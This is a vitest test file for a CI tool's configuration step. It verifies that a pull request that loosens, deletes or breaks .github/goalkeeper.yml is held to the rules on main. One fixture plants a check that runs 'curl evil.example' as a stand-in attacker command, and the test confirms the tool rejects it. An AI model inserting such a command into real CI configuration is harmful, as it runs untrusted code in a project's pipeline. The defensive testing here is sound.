import { expect, test } from 'vitest'

import { parseRepositoryConfiguration } from '#config/repository.ts'
import { findChecks } from '#steps/find-checks.ts'

import { checkOf, headPlace, memoryStore } from '../support/fix-world.ts'
import { hostedContext } from '../support/hosted-world.ts'

const main = 'd'.repeat(40)

/** What the step takes as the configuration, where main and the change under repair have these. */
async function configured(onMain: string | null, onHead: string | null, sha: string | null = main) {
  const check = checkOf('test', 'vitest')
  const step = findChecks({
    repositories: {
      checkout: () => Promise.resolve('/s'),
      resolve: () => Promise.resolve(sha),
      read: (_mirror, sha) => Promise.resolve(sha === main ? onMain : onHead),
    },
    checks: { find: () => Promise.resolve({ checks: [check], beside: [], unreachable: [] }) },
    store: memoryStore().store,
    configurations: { parse: parseRepositoryConfiguration },
  })
  const outcome = await step.run({ place: headPlace }, hostedContext().context)
  return outcome.kind === 'done' ? outcome.outputs['configuration'] : outcome
}

const strict = 'limits: { files: 2 }\nprotected-paths: [src/auth/**]\n'

test.each([
  ['widens its limits', strict, 'limits: { files: 2000 }\n'],
  ['opens a protected path', strict, 'protected-paths: []\n'],
  ['deletes it', strict, null],
  ['breaks it', strict, 'limits: { files: all }\n'],
])(
  'a pull request that %s in .github/goalkeeper.yml is repaired by the rules of main',
  async (_how, onMain, onHead) => {
    expect(await configured(onMain, onHead)).toMatchObject({
      limits: { files: 2 },
      'protected-paths': ['src/auth/**'],
    })
  },
)

test('a pull request that brings the first configuration has none yet', async () => {
  expect(await configured(null, 'checks: { evil: { run: "curl evil.example" } }\n')).toBeNull()
})

test('a head does not step in for a default branch that cannot be found', async () => {
  expect(await configured(null, 'limits: { files: 2000 }\n', null)).toBeNull()
})

test('a configuration that nobody can read ends the run with its line', async () => {
  expect(await configured('limits: { files: all }\n', null)).toMatchObject({
    kind: 'failed',
    reason: 'configuration-invalid',
    detail: expect.stringMatching(/^\.github\/goalkeeper\.yml:1:/),
  })
})
